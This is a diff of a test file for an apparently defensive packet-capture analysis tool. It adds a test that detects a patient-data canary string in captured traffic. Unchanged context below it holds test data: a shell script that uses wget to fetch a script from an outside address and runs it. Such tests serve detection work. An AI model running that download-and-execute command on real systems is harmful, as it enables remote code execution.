@@ -151,6 +151,13 @@ class Judged(Folder):
         self.assertIn("wire-files-clear", rules(result))
 
 
+    def test_a_canary_is_found_whatever_the_framing_and_however_it_was_cut(self):
+        talk = wire.Talk(DEVICE, PEER, 9999).open().say(True, b"\x00\x17\xfe" * 9 + b"CANARY-PATIENT" + b"\xff" * 9, 4).close()
+        capture = self.capture(talk.packets)
+        self.assertEqual(rules(self.judged("capture", capture)), ["wire-public-peer"])
+        self.assertIn("wire-patient-data-clear", rules(self.judged("capture", "--canary", "CANARY-PATIENT", capture)))
+        self.assertNotIn("wire-patient-data-clear", rules(self.judged("capture", "--canary", "ANOTHER", capture)))
+
     def test_what_was_carried_is_scanned_when_asked(self):
         script = b"#!/bin/sh\nwget -O /tmp/run.sh http://203.0.113.9/run.sh\nsh /tmp/run.sh\n"
         talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /u.sh HTTP/1.0\r\nHost: a.example\r\n\r\n")
